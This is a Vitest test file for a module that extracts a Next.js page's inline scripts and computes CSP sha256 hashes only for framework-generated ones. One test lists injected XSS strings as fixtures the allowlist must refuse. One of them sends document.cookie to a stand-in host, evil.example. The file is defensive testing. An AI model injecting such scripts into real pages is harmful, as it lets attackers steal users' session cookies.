import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'

import { frameworkScriptHashes, inlineScripts, scriptHash } from '../../server/inlineScriptHashes.mjs'

// What Next 16 with Turbopack writes into a page (shortened), and what must never be allowed beside it.
const QUEUE = '(self.__next_f=self.__next_f||[]).push([0])'
const FLIGHT = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[339756,[],\\"default\\"]\\n"])'
const LOADER = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"]});'
const JSON_LD = '{"@context":"https://schema.org","@type":"BeautySalon","name":"Salong <\\/script>"}'
const page = (...scripts: string[]) =>
  `<!DOCTYPE html><html lang="sv"><head><script src="/_next/static/chunks/a.js" async=""></script>` +
  `<script type="application/ld+json">${JSON_LD}</script></head><body><h1>Skönhet</h1>` +
  scripts.map((text, i) => (i === 0 ? `<script id="_R_">${text}</script>` : `<script>${text}</script>`)).join('') +
  '</body></html>'

/** Node's own sha256 of the text as UTF-8, as the CSP spec has the browser compute it. */
const sha256 = (text: string) => `'sha256-${createHash('sha256').update(Buffer.from(text, 'utf8')).digest('base64')}'`

describe("a document's inline scripts and their hashes", () => {
  it('finds the scripts a browser runs, in order: not those with src, not data blocks', () => {
    expect(inlineScripts(page(LOADER, QUEUE, FLIGHT))).toEqual([LOADER, QUEUE, FLIGHT])
    expect(inlineScripts('<SCRIPT type="module">a()</SCRIPT ><script type=text/javascript>b()</script>')).toEqual([
      'a()',
      'b()',
    ])
    expect(inlineScripts('<script data-x="a>b">c()</script>')).toEqual(['c()'])
  })

  it("hashes each framework script's text as UTF-8, with the parser's line breaks", () => {
    const withText = 'self.__next_f.push([1,"Skönhet – spa 💆"])'
    expect(scriptHash(withText)).toBe(sha256(withText))
    expect(scriptHash('self.__next_f.push([1,\r\n"a"])')).toBe(sha256('self.__next_f.push([1,\n"a"])'))
    expect(frameworkScriptHashes(page(LOADER, QUEUE, FLIGHT, withText))).toEqual({
      hashes: [sha256(LOADER), sha256(QUEUE), sha256(FLIGHT), sha256(withText)],
      refused: 0,
    })
  })

  it('lists a script that occurs twice once', () => {
    expect(frameworkScriptHashes(page(LOADER, QUEUE, QUEUE)).hashes).toEqual([sha256(LOADER), sha256(QUEUE)])
  })

  it("gives no hash to a script that is not the framework's, even one shaped like it", () => {
    for (const injected of [
      'alert(document.cookie)',
      'self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie)',
      'self.__next_f.push(fetch("//evil.example"))',
      '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
    ]) {
      const { hashes, refused } = frameworkScriptHashes(page(LOADER, QUEUE, injected, FLIGHT))
      expect(hashes, injected).toEqual([sha256(LOADER), sha256(QUEUE), sha256(FLIGHT)])
      expect(refused, injected).toBe(1)
    }
  })

  it('a new version of the page has its own hashes', () => {
    const before = frameworkScriptHashes(page(LOADER, QUEUE, FLIGHT)).hashes
    const after = frameworkScriptHashes(page(LOADER, QUEUE, FLIGHT.replace('fragment', 'fragment2'))).hashes
    expect(after).not.toEqual(before)
    expect(after.slice(0, 2)).toEqual(before.slice(0, 2))
  })
})
